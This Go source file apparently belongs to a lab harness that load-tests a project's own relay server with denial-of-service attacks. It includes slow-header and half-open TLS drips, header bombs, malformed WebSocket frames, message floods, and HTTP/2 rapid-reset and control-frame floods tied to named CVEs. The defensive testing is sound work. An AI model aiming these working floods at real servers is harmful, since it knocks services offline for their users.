package lab

import (
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/tacet-chat/tacet/internal/wire"
)

// attacks are what a stranger does on one connection, as often as it can. k
// counts the connections of one network.
var attacks = map[string]func(a *attacker, l *caller, k int) error{
	"half-open handshakes":     halfOpen,
	"slow headers":             slowHeaders,
	"header bombs":             headerBomb,
	"absurd lengths":           absurdLength,
	"requests without end":     pipeline,
	"no first frame":           noHello,
	"frames that are none":     badFrames,
	"half frames":              halfFrames,
	"many watches":             manyWatches,
	"bad proofs":               badProofs,
	"maximal sets":             maximalSets,
	"readers that do not read": frozenReaders,
	"fan-out":                  fanOut,
	"puts without end":         putFlood,
	"echoes and pings":         echoFlood,
	"replays":                  replayFlood,
	"puts by post":             postFlood,
	"blobs":                    blobFlood,
	"HTTP/2 resets":            streamResets,
	"HTTP/2 control frames":    controlFrames,
	"reconnects":               reconnects,
}

// drip sends bytes one at a time, as slowly as nobody honest does.
func (a *attacker) drip(l *caller, b string) error {
	a.opened.Add(1)
	for n := 0; ; n++ {
		if _, err := io.WriteString(l, b[n%len(b):n%len(b)+1]); err != nil {
			return err
		}
		select {
		case <-a.ctx.Done():
			return a.ctx.Err()
		case <-time.After(100 * time.Millisecond):
		}
	}
}

// halfOpen begins a ClientHello of 64 KiB and sends as much of it as is taken.
func halfOpen(a *attacker, l *caller, k int) error {
	part := append([]byte{22, 3, 1, 0x3e, 0x80}, make([]byte, 16_000)...)
	copy(part[5:], []byte{1, 0, 0xff, 0})
	if k%4 == 0 {
		return a.drip(l, string(part[:9])+"\x00")
	}
	for range 4 {
		if _, err := l.Write(part); err != nil {
			return err
		}
		clear(part[5:])
	}
	return a.hold(l)
}

func slowHeaders(a *attacker, l *caller, _ int) error {
	if err := l.secure(); err != nil {
		return err
	}
	io.WriteString(l, "GET /v1/realm HTTP/1.1\r\nHost: relay\r\n")
	return a.drip(l, "X: y\r\n")
}

// headerBomb sends as many headers as are taken, and keeps the last from ending.
func headerBomb(a *attacker, l *caller, _ int) error {
	if err := l.secure(); err != nil {
		return err
	}
	var b strings.Builder
	b.WriteString("GET /v1/realm HTTP/1.1\r\nHost: relay\r\n")
	for n := range 4000 {
		fmt.Fprintf(&b, "%x:\r\n", n)
		if b.Len() > 1000 {
			if _, err := io.WriteString(l, b.String()); err != nil {
				return err
			}
			b.Reset()
		}
	}
	return a.hold(l)
}

func absurdLength(a *attacker, l *caller, k int) error {
	if err := l.secure(); err != nil {
		return err
	}
	head := "POST /v1/blob HTTP/1.1\r\nHost: relay\r\nContent-Length: 9000000000000000000\r\n\r\n"
	switch k % 4 {
	case 1:
		head = fmt.Sprintf("POST /v1/blob HTTP/1.1\r\nHost: relay\r\nContent-Length: %d\r\n\r\n", wire.BlobHeaderSize+wire.MaxBlob)
	case 2:
		head = fmt.Sprintf("POST /v1/put HTTP/1.1\r\nHost: relay\r\nContent-Length: %d\r\n\r\n", wire.PostPutSize)
	case 3:
		head = "GET /v1/realm HTTP/1.1\r\nHost: relay\r\nContent-Length: 9000000000000000000\r\n\r\n"
	}
	io.WriteString(l, head)
	return a.drip(l, "x")
}

// pipeline asks without waiting for answers, and on some connections without
// reading them.
func pipeline(a *attacker, l *caller, k int) error {
	if err := l.secure(); err != nil {
		return err
	}
	a.opened.Add(1)
	if k%2 == 0 {
		go io.Copy(io.Discard, l.r)
	}
	many := []byte(strings.Repeat("GET /v1/realm HTTP/1.1\r\nHost: relay\r\n\r\n", 64))
	for {
		if _, err := l.Write(many); err != nil {
			return err
		}
	}
}

func noHello(a *attacker, l *caller, k int) error {
	if err := l.upgrade([]string{"/v1/watch", "/v1/put"}[k%2]); err != nil {
		return err
	}
	return a.hold(l)
}

// badFrames are refused at once: each costs a handshake.
func badFrames(a *attacker, l *caller, k int) error {
	if err := l.upgrade([]string{"/v1/watch", "/v1/put"}[k/6%2]); err != nil {
		return err
	}
	l.Write([][]byte{
		{0x82, 0xff, 0x3f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0}, // 2^62 bytes
		{0x02, 0x81, 0, 0, 0, 0, 1},   // a first fragment
		{0x81, 0x81, 0, 0, 0, 0, 'x'}, // text
		{0xc2, 0x81, 0, 0, 0, 0, 1},   // a reserved bit
		{0x82, 0x01, 1},               // not masked
		append([]byte{0x89, 0xfe, 0x10, 0x00, 0, 0, 0, 0}, make([]byte, 4096)...),
	}[k%6])
	return a.hold(l)
}

// halfFrames sends all of the largest frame but its end.
func halfFrames(a *attacker, l *caller, k int) error {
	whole := clientFrame(wsBinary, make([]byte, wire.MaxFrame))
	path := "/v1/put"
	if k%2 == 0 {
		whole, path = clientFrame(wsBinary, make([]byte, wire.WatchHeader+wire.MaxWatch*wire.ProofSize)), "/v1/watch"
	}
	if err := l.upgrade(path); err != nil {
		return err
	}
	if _, err := l.Write(whole[:len(whole)-1]); err != nil {
		return err
	}
	return a.hold(l)
}

func manyWatches(a *attacker, l *caller, k int) error {
	if _, err := l.watch(a.realm, 0, common()[16*(k%32):][:16]...); err != nil {
		return err
	}
	a.opened.Add(1)
	for {
		if _, err := l.listen(); err != nil {
			return err
		}
	}
}

// badProofs has 511 signatures checked that are good, and one that is not.
func badProofs(a *attacker, l *caller, k int) error {
	proofs, err := l.greeting(a.realm)
	if err != nil {
		return err
	}
	if k >= 4 {
		l.Close()
		<-a.ctx.Done() // signing costs the attacker, too
		return a.ctx.Err()
	}
	b := proofs(0, common()[:wire.MaxWatch]...)
	b[len(b)-1] ^= 1
	a.opened.Add(1)
	if err := l.say(wsBinary, b); err != nil {
		return err
	}
	return l.watched()
}

// maximalSets watches 4,096 addresses, leaves them, and begins again.
func maximalSets(a *attacker, l *caller, k int) error {
	proofs, err := l.greeting(a.realm)
	if err != nil {
		return err
	}
	if k > 0 {
		l.Close()
		<-a.ctx.Done() // as above
		return a.ctx.Err()
	}
	set := fullSet()
	var frames [][]byte
	var leave []byte
	for n := 0; n < len(set); n += wire.MaxWatch {
		if a.ctx.Err() != nil {
			return a.ctx.Err()
		}
		frames = append(frames, clientFrame(wsBinary, proofs(0, set[n:n+wire.MaxWatch]...)))
	}
	leave = append(leave, byte(wire.FrameUnwatch))
	for _, k := range set[:1024] {
		a := k.address()
		leave = append(leave, a[:]...)
	}
	for {
		for _, f := range frames {
			if _, err := l.Write(f); err != nil {
				return err
			}
			if err := l.watched(); err != nil {
				return err
			}
		}
		a.opened.Add(1)
		if err := l.say(wsBinary, leave); err != nil {
			return err
		}
	}
}

// frozenReaders watch one address and read nothing, while one connection in
// eight puts to it.
func frozenReaders(a *attacker, l *caller, k int) error {
	if k%8 == 0 {
		return a.flood(l, common()[0].address())
	}
	if _, err := l.watch(a.realm, 0, common()[0]); err != nil {
		return err
	}
	a.opened.Add(1)
	<-a.ctx.Done()
	return a.ctx.Err()
}

// flood puts without end.
func (a *attacker) flood(l *caller, to wire.Address) error {
	if err := l.upgrade("/v1/put"); err != nil {
		return err
	}
	a.opened.Add(1)
	go io.Copy(io.Discard, l.r)
	all := putsTo(to)
	for {
		if _, err := l.Write(all); err != nil {
			return err
		}
	}
}

// fanOut is frozenReaders that read.
func fanOut(a *attacker, l *caller, k int) error {
	if k%8 == 0 {
		return a.flood(l, common()[0].address())
	}
	if _, err := l.watch(a.realm, 0, common()[0]); err != nil {
		return err
	}
	return a.hold(l)
}

// putFlood puts to one address that one connection watches.
func putFlood(a *attacker, l *caller, k int) error {
	if k == 1 {
		return fanOut(a, l, k)
	}
	to := common()[0].address()
	if k%2 == 0 {
		rand.Read(to[:])
	}
	return a.flood(l, to)
}

func echoFlood(a *attacker, l *caller, k int) error {
	if _, err := l.watch(a.realm, 0, common()[k]); err != nil {
		return err
	}
	a.opened.Add(1)
	go io.Copy(io.Discard, l.r)
	b := []byte{byte(wire.FrameEcho)}
	for n := range uint64(wire.MaxEchoes) {
		b = binary.BigEndian.AppendUint64(b, n)
	}
	all := bytes.Repeat(clientFrame(wsBinary, b), 8)
	if k%2 == 0 {
		all = bytes.Repeat(clientFrame(wsPing, nil), 10_000)
	}
	for {
		if _, err := l.Write(all); err != nil {
			return err
		}
	}
}

// replayFlood fills the window with cells for its own address and asks for them
// again and again.
func replayFlood(a *attacker, l *caller, k int) error {
	own := common()[k%16]
	if k%8 == 0 {
		return a.flood(l, own.address())
	}
	proofs, err := l.watch(a.realm, wire.FlagReplay, own)
	if err != nil {
		return err
	}
	again := clientFrame(wsBinary, proofs(wire.FlagReplay, own))
	all := bytes.Repeat(again, 64)
	a.opened.Add(1)
	go io.Copy(io.Discard, l.r)
	for {
		if _, err := l.Write(all); err != nil {
			return err
		}
	}
}

func postFlood(a *attacker, l *caller, k int) error {
	if err := l.secure(); err != nil {
		return err
	}
	body := make([]byte, wire.PostPutSize)
	for {
		rand.Read(body)
		fmt.Fprintf(l, "POST /v1/put HTTP/1.1\r\nHost: relay\r\nContent-Length: %d\r\n\r\n", len(body))
		if _, err := l.Write(body); err != nil {
			return err
		}
		resp, err := http.ReadResponse(l.r, nil)
		if err != nil {
			return err
		}
		io.Copy(io.Discard, resp.Body)
		if resp.StatusCode != 200 {
			return errors.New(resp.Status)
		}
		a.opened.Add(1)
	}
}

func blobFlood(a *attacker, l *caller, k int) error {
	if err := l.secure(); err != nil {
		return err
	}
	for {
		p := wire.BlobPut{Kind: wire.BlobSlot, Content: make([]byte, wire.MaxBlob)}
		rand.Read(p.ID[:])
		body, err := p.Append(nil)
		if err != nil {
			return err
		}
		fmt.Fprintf(l, "POST /v1/blob HTTP/1.1\r\nHost: relay\r\nContent-Length: %d\r\n\r\n", len(body))
		if _, err := l.Write(body); err != nil {
			return err
		}
		resp, err := http.ReadResponse(l.r, nil)
		if err != nil {
			return err
		}
		io.Copy(io.Discard, resp.Body)
		if resp.StatusCode != 200 {
			return errors.New(resp.Status)
		}
		a.opened.Add(1)
	}
}

// speak begins HTTP/2 and returns how requests are written.
func (l *caller) speak() (*http2.Framer, func(stream uint32, path string) error, error) {
	if err := l.secure("h2"); err != nil {
		return nil, nil, err
	}
	if _, err := io.WriteString(l, http2.ClientPreface); err != nil {
		return nil, nil, err
	}
	f := http2.NewFramer(l, l.r)
	if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return nil, nil, err
	}
	var block bytes.Buffer
	h := hpack.NewEncoder(&block)
	return f, func(stream uint32, path string) error {
		block.Reset()
		for _, field := range []string{":method=GET", ":scheme=https", ":authority=relay", ":path=" + path} {
			name, value, _ := strings.Cut(field, "=")
			h.WriteField(hpack.HeaderField{Name: name, Value: value})
		}
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
	}, nil
}

// streamResets opens streams and takes them back (CVE-2023-44487).
func streamResets(a *attacker, l *caller, k int) error {
	f, request, err := l.speak()
	if err != nil {
		return err
	}
	a.opened.Add(1)
	go io.Copy(io.Discard, l.r)
	for id := uint32(1); ; id += 2 {
		if err := request(id, "/v1/realm"); err != nil {
			return err
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
}

// controlFrames asks for answers that it never reads, and continues a header
// without end (CVE-2019-9512, CVE-2019-9515, CVE-2023-45288).
func controlFrames(a *attacker, l *caller, k int) error {
	f, _, err := l.speak()
	if err != nil {
		return err
	}
	a.opened.Add(1)
	if k%3 == 2 {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: make([]byte, 16), EndStream: true}); err != nil {
			return err
		}
	}
	for {
		switch k % 3 {
		case 0:
			err = f.WritePing(false, [8]byte{})
		case 1:
			err = f.WriteSettings()
		case 2:
			err = f.WriteContinuation(1, false, []byte("\x00\x01a\x01b"))
		}
		if err != nil {
			return err
		}
	}
}

// reconnects does handshakes, as fast as it can.
func reconnects(a *attacker, l *caller, k int) error {
	if err := l.secure(); err != nil {
		return err
	}
	a.opened.Add(1)
	return nil
}
